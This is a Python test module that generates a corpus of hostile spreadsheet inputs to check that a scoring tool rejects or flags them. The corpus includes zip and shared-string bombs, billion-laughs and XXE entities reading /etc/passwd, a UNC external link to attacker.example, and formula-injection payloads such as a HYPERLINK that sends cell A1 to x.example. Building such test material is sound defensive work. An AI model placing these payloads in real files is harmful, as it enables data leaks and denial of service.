"""Build the adversarial corpus of hostile-input.md §3 (items 1-13 and variants) at test time.

Nothing here is committed as a binary: every file is derived from a clean 自评表 written by
``builders.make_workbook`` (plus LibreOffice re-saves where a sharedStrings part or a real
.xls is needed) by rewriting single zip members. Big bombs are streamed member by member so
building them never holds hundreds of MB in memory.

``build_corpus(folder)`` writes the files and returns ``{file name: Expectation}``; the same
mapping is available before building as :data:`EXPECTATIONS` so tests can parametrise on it.
"""

from __future__ import annotations

import html
import os
import shutil
import subprocess
import sys
import tempfile
import uuid
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Optional, Union

import openpyxl
from builders import Layout, add_project_sheet, make_workbook, seed_spec, soffice_path

# --------------------------------------------------------------------------------------------
# Expectations
# --------------------------------------------------------------------------------------------

SCORED, FAILED, SKIPPED = "scored", "failed", "skipped"

#: Formula-injection payloads (hostile-input.md B), written as *text* into input cells.
PAYLOADS: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "＝1+1",
    "====== 2",
    "'=1+1",
)
#: Fragments that must never appear inside an output <f> element.
PAYLOAD_MARKERS: tuple[str, ...] = ("HYPERLINK", "x.example", "1+1", "SUM(1,1)", "===", "点击")

SHEET_PART = "xl/worksheets/sheet1.xml"
BOMB_BYTES = 300 << 20  # hostile-input.md §3.1: 1 GiB in the doc, 300 MB in CI
SST_BOMB_STRINGS = 3_000_000
GIANT_STRING_CHARS = 70_000_000
UNC_TARGET = "file:///\\\\attacker.example\\share\\budget.xlsx"


@dataclass(frozen=True)
class Expectation:
    """What ``perf-xlsx batch`` must record for one corpus file."""

    status: str  # "scored" | "failed" | "skipped"
    reason: Optional[str] = None  # substring of the Chinese reason (non-scored files)
    codes: tuple[str, ...] = ()  # finding codes that must be present when scored
    # When scored: every project must read exactly as in this corpus file (same totals and
    # per-indicator weight / entered score / computed score), i.e. the variant was not mis-read.
    same_as: str = ""
    item: str = ""  # hostile-input.md §3 item / catalogue row, for reports
    debris: bool = False  # folder debris: skipped by name, never opened


_BOMB = "疑似损坏或恶意"
_DTD = "DTD/实体"
_BASE = "base_valid.xlsx"
_PARTIAL = "partial_reference.xlsx"

EXPECTATIONS: dict[str, Expectation] = {
    # controls: the clean base, its LibreOffice re-save (shared strings), and a base with two
    # indicators under target (so that weights and scores differ and a column swap would show)
    _BASE: Expectation(SCORED, item="control"),
    "base_lo.xlsx": Expectation(SCORED, same_as=_BASE, item="control (LibreOffice, sharedStrings)"),
    _PARTIAL: Expectation(SCORED, item="control with partial scores"),
    # 1 zip bombs
    "bomb_whitespace.xlsx": Expectation(FAILED, _BOMB, item="1 A3 whitespace zip bomb 300 MB in 0.3 MB"),
    "many_members.xlsx": Expectation(FAILED, _BOMB, item="1 A3 2,001 zip members"),
    # 2 entities
    "entities_sheet.xlsx": Expectation(FAILED, _DTD, item="2 A1 billion laughs in sheet part"),
    "entities_workbook.xlsx": Expectation(FAILED, _DTD, item="2 A1 billion laughs in workbook.xml"),
    "entities_sst.xlsx": Expectation(FAILED, _DTD, item="2 A1 billion laughs in sharedStrings.xml"),
    "xxe.xlsx": Expectation(FAILED, _DTD, item="2 A2 XXE in sheet part"),
    "xxe_styles.xlsx": Expectation(FAILED, _DTD, item="2 A2 XXE in styles.xml"),
    # 3 huge used range
    "corner_cell.xlsx": Expectation(SCORED, codes=("read.window_truncated",), same_as=_BASE,
                                    item="3 A5 XFD1048576 + dimension"),
    # Styled empty rows hold no content beyond the window: no used-range warning (issue 12 §3;
    # tests/test_misreads.py checks it is absent).
    "styled_rows.xlsx": Expectation(SCORED, same_as=_BASE, item="3 A6 styled empty rows to 1048576"),
    "bad_style_index.xlsx": Expectation(SCORED, same_as=_BASE, item="3 A6 style index out of range"),
    # 4 shared strings
    "sst_bomb.xlsx": Expectation(FAILED, _BOMB, item="4 A7 3,000,000 shared strings"),
    "sst_giant.xlsx": Expectation(FAILED, _BOMB, item="4 A7 one 70M-char shared string"),
    "long_text.xlsx": Expectation(SCORED, same_as=_BASE, item="4 A7 20M-char incompressible cell under the caps"),
    # 5 external link
    "external_link.xlsx": Expectation(SCORED, codes=("read.external_link",), same_as=_BASE,
                                      item="5 A8 external link to a UNC path"),
    # 6 macros
    "macro.xlsm": Expectation(SCORED, codes=("read.macros_ignored",), same_as=_BASE, item="6 A9 .xlsm"),
    "macro_renamed.xlsx": Expectation(SCORED, codes=("read.macros_ignored",), same_as=_BASE,
                                      item="6 A9 macro workbook renamed .xlsx"),
    # 7 encryption
    "encrypted.xlsx": Expectation(FAILED, "密码", item="7 A10 agile encryption, password 123"),
    "encrypted_velvet.xlsx": Expectation(FAILED, "密码", item="7 A10 encryption, VelvetSweatshop"),
    # 8 impostors
    "csv_gbk.xlsx": Expectation(FAILED, "CSV", item="8 A11 GBK CSV renamed .xlsx"),
    "html_export.xls": Expectation(FAILED, "HTML", item="8 A11 HTML table saved as .xls"),
    "pdf_renamed.xlsx": Expectation(FAILED, "PDF", item="8 A11 PDF renamed .xlsx"),
    "empty.xlsx": Expectation(FAILED, "0 字节", item="8 A11 0-byte file"),
    "docx_renamed.xlsx": Expectation(FAILED, "Word", item="8 A11 .docx renamed .xlsx"),
    "truncated.xlsx": Expectation(FAILED, "损坏", item="8 A12 first half of a workbook"),
    "legacy.xls": Expectation(SCORED, codes=("read.legacy_format",), same_as=_BASE,
                              item="8 A13 real .xls (LibreOffice)"),
    "legacy_xls_renamed.xlsx": Expectation(SCORED, codes=("read.legacy_format",), same_as=_BASE,
                                           item="8 A13 .xls renamed .xlsx"),
    "strict.xlsx": Expectation(SCORED, same_as=_BASE, item="8 A16 Strict OOXML (namespace swap)"),
    # 9 folder debris
    "~$base_valid.xlsx": Expectation(SKIPPED, "~$", item="9 A17 Office owner file", debris=True),
    ".~lock.base_valid.xlsx#": Expectation(SKIPPED, "LibreOffice", item="9 A17 LibreOffice lock", debris=True),
    "._base_valid.xlsx": Expectation(SKIPPED, "macOS", item="9 A17 AppleDouble", debris=True),
    "Thumbs.db": Expectation(SKIPPED, "系统文件", item="9 A17 Thumbs.db", debris=True),
    "desktop.ini": Expectation(SKIPPED, "系统文件", item="9 A17 desktop.ini", debris=True),
    "上次评分结果.xlsx": Expectation(SKIPPED, "评分结果", item="9 D4 renamed scored output"),
    # 10 injection
    "injection.xlsx": Expectation(SCORED, item="10 B payloads as inline strings (9 sheets)"),
    "injection_sst.xlsx": Expectation(SCORED, item="10 B payloads as shared strings (LibreOffice)"),
    # 11 messy values
    "messy_values.xlsx": Expectation(SCORED, codes=("indicator.unparsed",),
                                     item="11 C1 C2 C4 percent fraction, #DIV/0!, uncalculated formula, text numbers"),
    "hidden_parts.xlsx": Expectation(SCORED, codes=("read.hidden_rows", "read.hidden_sheet"),
                                     item="11 C7 hidden row, hidden and veryHidden sheets"),
    "label_variants.xlsx": Expectation(SCORED, same_as=_BASE,
                                       item="11 C9 traditional labels, \\u3000, line breaks, _x000D_"),
    "date1904.xlsx": Expectation(SCORED, same_as=_BASE, item="11 C6 date1904 twin (LibreOffice)"),
    # 12 shifted template
    "shifted_template.xlsx": Expectation(SCORED, same_as=_PARTIAL,
                                         item="12 C8 inserted row, 分值/得分 swapped, split header, 2023 wording"),
    # 13 control characters
    "control_chars.xlsx": Expectation(SCORED, same_as=_BASE, item="13 A18 _x0007_ and _x000D_ in sharedStrings"),
}


def partial_spec() -> dict[str, Any]:
    """招商节会 with two indicators under target: entered scores differ from the weights."""
    spec = seed_spec("招商节会")
    spec["indicators"][2].update(actual="1600份", score=8)
    spec["indicators"][8].update(actual="85%", score=9)
    spec["total_score_published"] = 96.83
    return spec


# --------------------------------------------------------------------------------------------
# Zip plumbing
# --------------------------------------------------------------------------------------------

Part = Union[bytes, Callable[[zipfile.ZipFile], Iterable[bytes]], None]


def rewrite(src: Path, dst: Path, parts: Optional[dict[str, Part]] = None,
            *, compresslevel: Optional[int] = None) -> Path:
    """Copy the package at ``src`` to ``dst`` replacing, adding (bytes or a chunk generator
    fed the source zip) or dropping (None) the named members; everything else byte for byte."""
    parts = dict(parts or {})
    with zipfile.ZipFile(src) as zin, \
            zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as zout:
        for info in zin.infolist():
            name = info.filename
            if name not in parts:
                zout.writestr(info, zin.read(name))
                continue
            _put(zout, zin, name, parts.pop(name))
        for name, part in parts.items():
            _put(zout, zin, name, part)
    return dst


def _put(zout: zipfile.ZipFile, zin: zipfile.ZipFile, name: str, part: Part) -> None:
    if part is None:
        return
    if isinstance(part, bytes):
        zout.writestr(name, part)
        return
    # streamed: a 300 MB member never exists as one bytes object
    with zout.open(name, "w") as fh:
        for chunk in part(zin):
            fh.write(chunk)


def edit(src: Path, dst: Path, name: str, change: Callable[[str], str]) -> Path:
    with zipfile.ZipFile(src) as zf:
        text = zf.read(name).decode("utf-8")
    new = change(text)
    if new == text:
        raise AssertionError(f"{dst.name}: edit of {name} changed nothing")
    return rewrite(src, dst, {name: new.encode("utf-8")})


def _replace_once(text: str, old: str, new: str) -> str:
    if old not in text:
        raise AssertionError(f"corpus builder: {old!r} not found")
    return text.replace(old, new, 1)


def _read(src: Path, name: str) -> str:
    with zipfile.ZipFile(src) as zf:
        return zf.read(name).decode("utf-8")


def _esc(text: str) -> str:
    return html.escape(text, quote=False)


def _doctype(root: str, entities: str) -> str:
    return f"<!DOCTYPE {root} [{entities}]>"


def _laughs() -> str:
    ents = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        ents.append(f'<!ENTITY lol{i} "' + f"&{prev};" * 10 + '">')
    return "".join(ents)


def _with_doctype(xml: str, root: str, entities: str) -> str:
    """Insert a DTD before the root element (after any XML declaration)."""
    at = xml.find(f"<{root}")
    return xml[:at] + _doctype(root, entities) + xml[at:]


# --------------------------------------------------------------------------------------------
# LibreOffice (one process per filter, private profiles: parallel soffice calls share nothing)
# --------------------------------------------------------------------------------------------


def _soffice(inputs: list[Path], outdir: Path, target: str, profile: Path) -> subprocess.Popen[bytes]:
    exe = soffice_path()
    if exe is None:
        raise RuntimeError("LibreOffice (soffice) is needed to build the hostile corpus")
    outdir.mkdir(parents=True, exist_ok=True)
    cmd = [exe, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
           "--convert-to", target, "--outdir", str(outdir), *map(str, inputs)]
    return subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)


def _finish(proc: subprocess.Popen[bytes], expected: list[Path]) -> None:
    out, _ = proc.communicate(timeout=180)
    # soffice's exit code lies (hostile-input.md E3): check the files themselves
    missing = [p for p in expected if not p.exists() or p.stat().st_size == 0]
    if missing:
        raise RuntimeError(f"LibreOffice did not produce {missing}: {out.decode(errors='replace')}")


# --------------------------------------------------------------------------------------------
# Builders, one per item
# --------------------------------------------------------------------------------------------


def _bomb(base: Path, dst: Path) -> None:
    def sheet(zin: zipfile.ZipFile) -> Iterator[bytes]:
        head, sep, tail = zin.read(SHEET_PART).partition(b"<sheetData>")
        yield head + sep
        chunk = b" " * (1 << 20)
        for _ in range(BOMB_BYTES >> 20):
            yield chunk
        yield tail

    rewrite(base, dst, {SHEET_PART: sheet}, compresslevel=9)


def _many_members(base: Path, dst: Path) -> None:
    rewrite(base, dst, {f"xl/media/pad{i}.bin": b"\0" for i in range(2001)})


def _entities(base: Path, base_lo: Path, folder: Path) -> None:
    edit(base, folder / "entities_sheet.xlsx", SHEET_PART,
         lambda x: _replace_once(_with_doctype(x, "worksheet", _laughs()), "<t>招商节会</t>", "<t>&lol9;</t>"))
    edit(base, folder / "entities_workbook.xlsx", "xl/workbook.xml",
         lambda x: _replace_once(_with_doctype(x, "workbook", _laughs()), 'name="招商节会"', 'name="&lol9;"'))
    edit(base_lo, folder / "entities_sst.xlsx", "xl/sharedStrings.xml",
         lambda x: _replace_once(_with_doctype(x, "sst", _laughs()), ">招商节会<", ">&lol9;<"))
    xxe = '<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    edit(base, folder / "xxe.xlsx", SHEET_PART,
         lambda x: _replace_once(_with_doctype(x, "worksheet", xxe), "<t>招商节会</t>", "<t>&xxe;</t>"))
    edit(base, folder / "xxe_styles.xlsx", "xl/styles.xml",
         lambda x: _replace_once(_with_doctype(x, "styleSheet", xxe), "<name val=", "<name val=\"&xxe;\" x="))


def _corner(base: Path, dst: Path) -> None:
    def change(x: str) -> str:
        x = _replace_once(x, '<dimension ref="A1:J26" />', '<dimension ref="A1:XFD1048576"/>')
        return _replace_once(x, "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')

    edit(base, dst, SHEET_PART, change)


def _styled_rows(base: Path, dst: Path) -> None:
    def sheet(zin: zipfile.ZipFile) -> Iterator[bytes]:
        head, sep, tail = zin.read(SHEET_PART).partition(b"</sheetData>")
        yield head
        for start in range(27, 1048577, 65536):
            stop = min(start + 65536, 1048577)
            yield "".join(f'<row r="{r}" s="1" customFormat="1"/>' for r in range(start, stop)).encode()
        yield sep + tail

    rewrite(base, dst, {SHEET_PART: sheet})


def _bad_style(base: Path, dst: Path) -> None:
    edit(base, dst, SHEET_PART, lambda x: _replace_once(x, '<c r="A1" s="1"', '<c r="A1" s="99999"'))


def _sst_bombs(base_lo: Path, folder: Path) -> None:
    def prepend(zin: zipfile.ZipFile) -> Iterator[bytes]:
        head, sep, tail = zin.read("xl/sharedStrings.xml").partition(b"<si>")
        yield head
        step = 100_000
        for start in range(0, SST_BOMB_STRINGS, step):
            yield "".join(f"<si><t>字符串{i}</t></si>" for i in range(start, start + step)).encode()
        yield sep + tail

    def giant(zin: zipfile.ZipFile) -> Iterator[bytes]:
        head, sep, tail = zin.read("xl/sharedStrings.xml").partition(b"</sst>")
        yield head + b"<si><t>"
        chunk = b"A" * 1_000_000
        for _ in range(GIANT_STRING_CHARS // len(chunk)):
            yield chunk
        yield b"</t></si>" + sep + tail

    rewrite(base_lo, folder / "sst_bomb.xlsx", {"xl/sharedStrings.xml": prepend}, compresslevel=1)
    rewrite(base_lo, folder / "sst_giant.xlsx", {"xl/sharedStrings.xml": giant}, compresslevel=9)


def _long_text(base: Path, dst: Path) -> None:
    # random hex compresses ~2:1, so this passes every zip cap and reaches the reader
    text = os.urandom(10_000_000).hex()
    edit(base, dst, SHEET_PART, lambda x: _replace_once(
        x, "<t>举办招商节会4场，", f"<t>{text}举办招商节会4场，"))


def _external_link(base: Path, dst: Path) -> None:
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' \
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    link = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink {ns}>'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row>'
            "</sheetData></sheetDataSet></externalBook></externalLink>")
    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 f'relationships/externalLinkPath" Target="{_esc(UNC_TARGET)}" TargetMode="External"/>'
                 "</Relationships>")
    wb = _replace_once(_read(base, "xl/workbook.xml"), "</sheets>",
                       '</sheets><externalReferences><externalReference r:id="rId90"/></externalReferences>')
    rels = _replace_once(_read(base, "xl/_rels/workbook.xml.rels"), "</Relationships>",
                         '<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/'
                         '2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                         "</Relationships>")
    types = _replace_once(_read(base, "[Content_Types].xml"), "</Types>",
                          '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                          'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    # the cached value is the real budget, so the score stays the base's and only the flag differs
    sheet = _replace_once(_read(base, SHEET_PART), '<c r="E7" s="4" t="n"><v>200</v></c>',
                          '<c r="E7" s="4"><f>[1]Sheet1!A1</f><v>200</v></c>')
    rewrite(base, dst, {
        "xl/workbook.xml": wb.encode(), "xl/_rels/workbook.xml.rels": rels.encode(),
        "[Content_Types].xml": types.encode(), SHEET_PART: sheet.encode(),
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode(),
    })


def _macro(base: Path, dst: Path) -> None:
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    rels = _replace_once(_read(base, "xl/_rels/workbook.xml.rels"), "</Relationships>",
                         '<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/'
                         'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    types = _read(base, "[Content_Types].xml")
    types = _replace_once(types, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    types = _replace_once(types, "</Types>",
                          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rewrite(base, dst, {"xl/_rels/workbook.xml.rels": rels.encode(), "[Content_Types].xml": types.encode(),
                        "xl/vbaProject.bin": vba})


def _encrypted(base: Path, dst: Path, password: str) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    with base.open("rb") as src, dst.open("wb") as out:
        OOXMLFile(src).encrypt(password, out)


def _impostors(base: Path, folder: Path) -> None:
    (folder / "csv_gbk.xlsx").write_bytes("项目名称,实施单位,全年预算数\n招商节会,芙蓉区招商促进中心,200\n".encode("gbk"))
    (folder / "html_export.xls").write_text(
        '<html><head><meta charset="utf-8"></head><body><table><tr><td>项目名称</td><td>招商节会</td></tr>'
        "</table></body></html>", encoding="utf-8")
    (folder / "pdf_renamed.xlsx").write_bytes(b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF\n")
    (folder / "empty.xlsx").write_bytes(b"")
    with zipfile.ZipFile(folder / "docx_renamed.xlsx", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml",
                    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                    'officedocument.wordprocessingml.document.main+xml"/></Types>')
        zf.writestr("word/document.xml",
                    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                    "<w:body><w:p><w:r><w:t>项目名称</w:t></w:r></w:p></w:body></w:document>")
    data = base.read_bytes()
    (folder / "truncated.xlsx").write_bytes(data[: len(data) // 2])


def _strict(base: Path, dst: Path) -> None:
    swaps = (("http://schemas.openxmlformats.org/spreadsheetml/2006/main", "http://purl.oclc.org/ooxml/spreadsheetml/main"),
             ("http://schemas.openxmlformats.org/officeDocument/2006/relationships",
              "http://purl.oclc.org/ooxml/officeDocument/relationships"))
    parts: dict[str, Part] = {}
    with zipfile.ZipFile(base) as zf:
        for name in zf.namelist():
            if name.endswith((".xml", ".rels")):
                text = zf.read(name).decode("utf-8")
                for old, new in swaps:
                    text = text.replace(old, new)
                parts[name] = text.encode()
    rewrite(base, dst, parts)


def _debris(folder: Path, scored_output: Path) -> None:
    user = "张三".encode("gbk")
    owner = bytes([len(user)]) + user.ljust(53, b" ") + "张三".encode("utf-16-le")
    (folder / "~$base_valid.xlsx").write_bytes(owner.ljust(165, b"\0"))
    (folder / ".~lock.base_valid.xlsx#").write_text("张三,host,张三的电脑,30.11.2026 10:00,file:///tmp;\n",
                                                    encoding="utf-8")
    (folder / "._base_valid.xlsx").write_bytes(b"\x00\x05\x16\x07" + bytes(4092))
    (folder / "Thumbs.db").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016))
    (folder / "desktop.ini").write_text("[.ShellClassInfo]\r\nIconResource=C:\\x.ico,0\r\n", encoding="utf-8")
    shutil.copyfile(scored_output, folder / "上次评分结果.xlsx")


# CJK digits: LibreOffice splits "项目0" into two rich-text runs (CJK and Latin fonts), which
# would hide the placeholder from a plain text replacement in sharedStrings.xml.
_CN = "零一二三四五六七八九"


def _injection_source(dst: Path) -> None:
    """Nine project sheets with placeholder names; the payloads go in after saving, so openpyxl
    never turns them into formulas."""
    wb = openpyxl.Workbook()
    default = wb.active
    for k in range(len(PAYLOADS)):
        spec = seed_spec("招商节会")
        spec["project_name"] = f"注入项目{_CN[k]}"
        spec["implementer"] = f"注入单位{_CN[k]}"
        for i, ind in enumerate(spec["indicators"]):
            ind["name"] = f"注入指标{_CN[k]}之{_CN[i]}"
        # two sheet names carry payloads too: they reach 汇总 text and hyperlink locations
        title = {0: "=1+1", 4: "@SUM(1,1)"}.get(k, f"注入{k}")
        add_project_sheet(wb, spec, title=title)
    if default is not None:
        wb.remove(default)
    wb.save(dst)


def _inject(text: str, old: Callable[[str], str], new: Callable[[str], str]) -> str:
    n = len(PAYLOADS)
    for k in range(n):
        text = text.replace(old(f"注入项目{_CN[k]}"), new(_esc(PAYLOADS[k])))
        text = text.replace(old(f"注入单位{_CN[k]}"), new(_esc(PAYLOADS[(k + 1) % n])))
        for i in range(9):
            text = text.replace(old(f"注入指标{_CN[k]}之{_CN[i]}"), new(_esc(PAYLOADS[(k + i) % n])))
    if "注入项目" in text or "注入单位" in text or "注入指标" in text:
        raise AssertionError("corpus builder: a placeholder was not replaced")
    return text


def _injection(src: Path, src_lo: Path, folder: Path) -> None:
    # a payload with a leading tab needs xml:space="preserve" to survive as typed
    preserved: Callable[[str], str] = lambda s: f'<t xml:space="preserve">{s}</t>'  # noqa: E731
    parts: dict[str, Part] = {}
    with zipfile.ZipFile(src) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/sheet"):
                parts[name] = _inject(zf.read(name).decode(), lambda s: f"<t>{s}</t>", preserved).encode()
    rewrite(src, folder / "injection.xlsx", parts)
    sst = _inject(_read(src_lo, "xl/sharedStrings.xml"), preserved, preserved)
    rewrite(src_lo, folder / "injection_sst.xlsx", {"xl/sharedStrings.xml": sst.encode()})


def _messy(base: Path, dst: Path) -> None:
    wb = openpyxl.load_workbook(base)
    ws = wb["招商节会"]
    ws["E16"] = "≥２，０００份"  # full-width digits and comma
    ws["F16"] = " 2000\u00a0份 "
    ws["E17"] = "不低于80%"
    ws["F17"] = "８５％"
    ws["E18"] = "１００％"
    ws["F18"] = "100 %"
    ws["F19"] = "196.5万元\u200b"
    ws["F20"] = "nan"  # float("nan") would accept this: it must not score
    ws["F22"] = 0.95  # a fraction shown as 95% by its format
    ws["F22"].number_format = "0%"
    ws["F14"] = "#DIV/0!"  # openpyxl stores known error codes as t="e"
    ws["F15"] = "=2*3"  # openpyxl writes no cached value: an uncalculated formula
    wb.save(dst)


def _hidden(base: Path, dst: Path) -> None:
    wb = openpyxl.load_workbook(base)
    wb["招商节会"].row_dimensions[21].hidden = True
    old = wb.create_sheet("旧表")
    old["A1"] = "上年草稿"
    old.sheet_state = "hidden"
    # a second, complete 自评表 hidden from view: must be read and reported, not ignored
    smap = add_project_sheet(wb, seed_spec("农贸市场提质改造"), title="隐藏项目")
    wb[smap.title].sheet_state = "veryHidden"
    wb.save(dst)


def _labels(dst: Path) -> None:
    make_workbook(dst, [seed_spec("招商节会")], layout=Layout(label_style="traditional"))
    wb = openpyxl.load_workbook(dst)
    ws = wb.active
    assert ws is not None
    ws["A4"] = "項目名稱 \u3000"
    ws["G5"] = "實施\n單位_x000D_"
    ws["F13"] = "實際完成值\u3000"
    wb.save(dst)


def _shifted(base: Path, dst: Path) -> None:
    wb = openpyxl.load_workbook(base)
    ws = wb["招商节会"]
    merges = [tuple(m.bounds) for m in ws.merged_cells.ranges]  # (c1, r1, c2, r2)
    for m in list(ws.merged_cells.ranges):
        ws.unmerge_cells(str(m))
    ws.insert_rows(13)  # openpyxl moves the cells but not the merges: redo them shifted
    ws["A13"] = "（以下为绩效指标）"
    for c1, r1, c2, r2 in merges:
        if r1 >= 13:
            r1, r2 = r1 + 1, r2 + 1
        if (c1, r1) == (9, 14):
            continue  # split the 偏差原因 header merge: I14 keeps its text, J14 stays empty
        ws.merge_cells(start_row=r1, start_column=c1, end_row=r2, end_column=c2)
    for r in range(14, 25):  # swap 分值 (G) and 得分 (H) in the indicator block and 总分 row
        ws.cell(r, 7).value, ws.cell(r, 8).value = ws.cell(r, 8).value, ws.cell(r, 7).value
    ws["E14"] = "年度指标值（A）"  # 2023-style wording
    ws["F14"] = "实际完成值（B）"
    ws["I14"] = "偏差原因分析及改进措施（C）"
    wb.save(dst)


def _control(base_lo: Path, dst: Path) -> None:
    def change(x: str) -> str:
        x = _replace_once(x, ">芙蓉区招商促进中心<", ">芙蓉区招商促进中心_x0007_<")
        return _replace_once(x, ">项目名称<", ">项目名称_x000D_\n<")

    edit(base_lo, dst, "xl/sharedStrings.xml", change)


def _date1904(base_lo: Path, dst: Path) -> None:
    edit(base_lo, dst, "xl/workbook.xml", lambda x: _replace_once(x, 'date1904="false"', 'date1904="true"'))


# --------------------------------------------------------------------------------------------
# Entry point
# --------------------------------------------------------------------------------------------


def _build_from_base(base: Path, folder: Path) -> None:
    shutil.copyfile(base, folder / _BASE)
    _bomb(base, folder / "bomb_whitespace.xlsx")
    _many_members(base, folder / "many_members.xlsx")
    _corner(base, folder / "corner_cell.xlsx")
    _styled_rows(base, folder / "styled_rows.xlsx")
    _bad_style(base, folder / "bad_style_index.xlsx")
    _long_text(base, folder / "long_text.xlsx")
    _external_link(base, folder / "external_link.xlsx")
    _macro(base, folder / "macro.xlsm")
    shutil.copyfile(folder / "macro.xlsm", folder / "macro_renamed.xlsx")
    _encrypted(base, folder / "encrypted.xlsx", "123")
    _encrypted(base, folder / "encrypted_velvet.xlsx", "VelvetSweatshop")
    _impostors(base, folder)
    _strict(base, folder / "strict.xlsx")
    _messy(base, folder / "messy_values.xlsx")
    _hidden(base, folder / "hidden_parts.xlsx")
    _labels(folder / "label_variants.xlsx")
    partial, _, _ = make_workbook(folder / _PARTIAL, [partial_spec()])
    _shifted(partial, folder / "shifted_template.xlsx")


def _build_from_libreoffice(base: Path, base_lo: Path, inj_src: Path, inj_lo: Path, folder: Path) -> None:
    shutil.copyfile(base_lo, folder / "base_lo.xlsx")
    _entities(base, base_lo, folder)
    _sst_bombs(base_lo, folder)
    _injection(inj_src, inj_lo, folder)
    _control(base_lo, folder / "control_chars.xlsx")
    _date1904(base_lo, folder / "date1904.xlsx")


def build_corpus(folder: Path) -> dict[str, Expectation]:
    """Write every corpus file into ``folder`` (created if missing); return the expectations."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="hostile_work_") as tmp:
        work = Path(tmp)
        base, _, _ = make_workbook(work / "base.xlsx", [seed_spec("招商节会")])
        inj_src = work / "injsrc.xlsx"
        _injection_source(inj_src)
        # LibreOffice and `perf-xlsx score` run in the background while Python builds the rest
        lo_x, lo_xls = work / "lo_xlsx", work / "lo_xls"
        scored = work / "prev.scored.xlsx"
        procs: list[subprocess.Popen[bytes]] = []
        try:
            procs.append(_soffice([base, inj_src], lo_x, "xlsx:Calc MS Excel 2007 XML",
                                  work / f"profile_{uuid.uuid4().hex}"))
            procs.append(_soffice([base], lo_xls, "xls:MS Excel 97", work / f"profile_{uuid.uuid4().hex}"))
            procs.append(subprocess.Popen(
                [sys.executable, "-m", "perf_xlsx", "score", str(base), "-o", str(scored)],
                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                cwd=Path(__file__).resolve().parent.parent))
            _build_from_base(base, folder)
            _finish(procs[0], [lo_x / "base.xlsx", lo_x / "injsrc.xlsx"])
            _finish(procs[1], [lo_xls / "base.xls"])
            _build_from_libreoffice(base, lo_x / "base.xlsx", inj_src, lo_x / "injsrc.xlsx", folder)
            shutil.copyfile(lo_xls / "base.xls", folder / "legacy.xls")
            shutil.copyfile(lo_xls / "base.xls", folder / "legacy_xls_renamed.xlsx")
            _finish(procs[2], [scored])  # the tool's own output, renamed into the folder below
        finally:
            # a builder that raised must not leave soffice writing into a deleted folder
            for proc in procs:
                if proc.poll() is None:
                    proc.kill()
                    proc.wait()
        _debris(folder, scored)
    built = {p.name for p in folder.iterdir()}
    if built != set(EXPECTATIONS):
        raise AssertionError(f"corpus mismatch: extra {built - set(EXPECTATIONS)}, "
                             f"missing {set(EXPECTATIONS) - built}")
    return dict(EXPECTATIONS)


if __name__ == "__main__":  # pragma: no cover - manual use: python tests/hostile_corpus.py DIR
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_corpus")
    for name, exp in sorted(build_corpus(target).items()):
        print(f"{exp.status:8} {name:28} {exp.item}")
